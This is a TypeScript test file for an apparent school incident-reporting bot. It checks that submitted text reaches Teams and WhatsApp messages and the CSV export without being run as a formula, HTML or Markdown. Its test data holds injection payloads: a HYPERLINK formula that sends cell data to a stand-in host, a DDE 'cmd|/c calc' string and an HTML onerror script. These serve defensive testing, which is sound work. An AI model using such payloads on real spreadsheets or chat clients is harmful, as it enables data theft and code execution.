import assert from 'node:assert/strict';
import { plainWhatsApp } from '../../src/cards/inert.js';
import { type SignedBot, startSigned } from '../long/signed-turns.js';

const headteacher = 'head';

/** What a spreadsheet, Teams, WhatsApp or a browser would act on. */
const hostile = [
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+cmd|/c calc!A1',
  '@SUM(1+1)*cmd',
  '<at>Erin Hall</at> <img src=x onerror=alert(1)> <b>bold</b>',
  '[click me](https://evil.example) **bold** # heading',
  '{{DATE(2026-01-01)}} {{TIME(2026-01-01T00:00:00Z)}} {evil}',
  'https://evil.example/preview *bold* _slanted_ ~struck~ `code`',
  '\u202Eevil\u202C\u0000\u0007 end',
] as const;

const mark = /evil|calc|SUM|onerror/;
/** Where somebody's words may stand in what is sent: each of these shows them as they are. */
const inert = /TextRun\.text$|Input\.Text\.value$|\.(?:fallbackText|speak|summary)$|^message\.text$/;

describe('what somebody wrote, on its way from the report to the file', () => {
  let bot: SignedBot;

  before(async () => {
    bot = await startSigned({
      people: [{ role: 'headteacher', name: 'Erin Hall', accounts: [`teams:${headteacher}`] }],
    });
    const { incidents } = bot.running.app.services;
    for (const [at, words] of hostile.entries()) {
      const reporter = { account: 'teams:reporter', name: words, role: 'parent' } as const;
      const fixed = { kind: 'insult', platform: 'other', postedBy: 'parent', stillUp: 'yes' } as const;
      const answers = {
        ...fixed,
        visibility: 'public',
        affected: ['parent'],
        words,
        link: words,
        mayContact: true,
      };
      await incidents.confirm(
        {
          draft: `hostile-${at}`,
          reporter,
          ...fixed,
          visibility: 'public',
          affected: ['parent'],
          words,
          link: words,
          mayContact: true,
          formVersion: 3,
          answers,
        },
        () => [],
        bot.running.clock.now(),
      );
    }
    for (const [at] of hostile.entries()) await bot.say(headteacher, `show ${at + 1}`);
    for (const words of ['list all', 'export everything', 'with names']) await bot.say(headteacher, words);
    await bot.say('reporter', 'my reports');
    await bot.say('reporter', hostile[4]);
  });

  after(() => bot.close());

  it('stands only where it is shown as it is', () => {
    const live: string[] = [];
    let seen = 0;
    const walk = (value: unknown, place: string): void => {
      if (typeof value === 'string') {
        if (!mark.test(value) && !/\{\{(?:DATE|TIME)/.test(value)) return;
        seen += 1;
        if (!inert.test(place) || /\{\{\s*(?:DATE|TIME)/.test(value)) live.push(`${place}: ${value}`);
      } else if (Array.isArray(value)) for (const one of value) walk(one, place);
      else if (typeof value === 'object' && value !== null) {
        const type = 'type' in value && typeof value.type === 'string' ? value.type : 'thing';
        for (const [key, one] of Object.entries(value)) walk(one, `${type}.${key}`);
      }
    };
    for (const [, body] of bot.microsoft.bodies) walk(JSON.parse(body), 'message');
    assert.deepEqual(live, []);
    assert.ok(seen > 3 * hostile.length, `only ${seen} were seen`);
  });

  it('is no mention, and no message is read as Markdown or HTML', () => {
    for (const [, body] of bot.microsoft.bodies) {
      const { entities, textFormat, text }: { entities?: unknown; textFormat?: string; text?: string } =
        JSON.parse(body);
      assert.equal(entities, undefined);
      if (text) assert.equal(textFormat, 'plain');
      assert.doesNotMatch(body, /"type":"(?:TextBlock|FactSet|Media|Image)"|"msteams":/);
    }
  });

  it('is no formula in the file', () => {
    const texts = bot.microsoft.bodies.flatMap(([, body]) => runsIn(JSON.parse(body)));
    const file = texts.join('');
    assert.match(file, /"Reference","Sent on"/);
    const cells = [...file.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell);
    assert.ok(cells.some((cell) => cell.startsWith("'=HYPERLINK")));
    assert.deepEqual(
      cells.filter((cell) => /^\s*[=+@\t\r-]/.test(cell)),
      [],
    );
  });

  it('is drawn by WhatsApp as it was typed', () => {
    const drawn = plainWhatsApp('*bold* _slanted_ ~struck~ ```code``` https://a.example/b_c_d 2*3 *');
    assert.doesNotMatch(drawn, /(?<![\p{L}\p{N}/])[*_~`]+(?=[^\s\u200b*_~`])/u);
    assert.equal(
      drawn.replaceAll('\u200b', ''),
      '*bold* _slanted_ ~struck~ ```code``` https://a.example/b_c_d 2*3 *',
    );
    assert.ok(drawn.includes('https://a.example/b_c_d'));
    const marked = plainWhatsApp('/*bold* (_slanted_)\n> quoted\n* listed\nhttps://a.example/_b_');
    assert.equal(
      marked.replaceAll('\u200b', '|'),
      '/*|bold* (_|slanted_)\n|> quoted\n|* listed\nhttps://a.example/_b_',
    );
  });
});

function runsIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(runsIn);
  if (typeof value !== 'object' || value === null) return [];
  if ('type' in value && value.type === 'TextRun' && 'text' in value) return [String(value.text)];
  return Object.values(value).flatMap(runsIn);
}
